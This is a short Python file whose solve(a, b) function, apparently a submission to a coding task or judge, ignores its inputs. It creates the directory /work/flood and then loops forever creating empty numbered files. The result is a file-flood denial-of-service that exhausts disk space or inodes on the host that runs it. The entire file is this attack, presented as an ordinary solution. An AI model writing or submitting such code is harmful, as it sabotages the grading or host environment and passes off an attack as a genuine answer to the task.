import os


def solve(a, b):
    os.makedirs("/work/flood", exist_ok=True)
    index = 0
    while True:
        open(f"/work/flood/{index}", "w").close()
        index += 1
